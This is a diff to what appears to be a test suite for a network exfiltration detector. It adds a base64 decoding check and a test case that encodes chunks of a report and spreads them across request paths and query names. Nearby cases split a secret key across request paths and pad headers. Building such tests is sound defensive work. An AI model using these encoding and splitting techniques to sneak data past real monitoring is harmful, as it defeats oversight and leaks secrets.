@@ -1,4 +1,5 @@
 """What would leave by the network, and what it would reach."""
+import base64
 import re
 from importlib.util import find_spec
 
@@ -47,6 +48,24 @@ def headed(outcome):
     """The beginning of the report, whatever stands between its pieces."""
     said = b"".join(re.findall(rb"[A-Za-z.,]+", re.sub(rb"c\d+=", b"", heads(outcome))))
     return PROSE[:200].replace(" ", "").encode() in said
+
+
+def segmented(outcome):
+    """The beginning of the report, in pieces of targets that are encoded one by one."""
+    said = b""
+    for r in outcome.reached:
+        if r["kind"] == "request":
+            for word in re.split(rb"[/?&=]", r["data"].split(b" ")[1]):
+                said += plain(word)
+    return PROSE[:200].encode() in said
+
+
+def plain(word):
+    try:
+        text = base64.urlsafe_b64decode(word + b"=" * (-len(word) % 4))
+    except ValueError:
+        return b""
+    return text if text.isascii() and text.decode().isprintable() else b""
 
 
 def keyed(outcome):
@@ -442,6 +461,13 @@ for n, piece in enumerate(pieces(KEY, 5)):
 for piece in pieces(KEY, 5):
     spread(first=f"GET /{piece}/page/ HTTP/1.1")
 """, rule="secret_leaves", effect=keyed),
+    NetAttempt(29, "a passage over the segments of a path and the names of a query", "T1041", SPREAD + """
+encoded = [base64.urlsafe_b64encode(piece.encode()).decode().rstrip("=") for piece in pieces(report[:1500], 9)]
+spread(first="GET /" + "/".join(encoded) + " HTTP/1.1")
+spread(first="GET /x?" + "&".join(piece + "=1" for piece in encoded) + " HTTP/1.1")
+for piece in encoded:
+    spread(first=f"GET /v1/{piece}/page HTTP/1.1")
+""", rule="passage_leaves", effect=segmented),
     NetAttempt(8, "what heads carry counts", "T1030", """
 for n in range(20):
     web("http://small.example/", headers={"X-Note": "%d " % n + "a word or two " * 100})
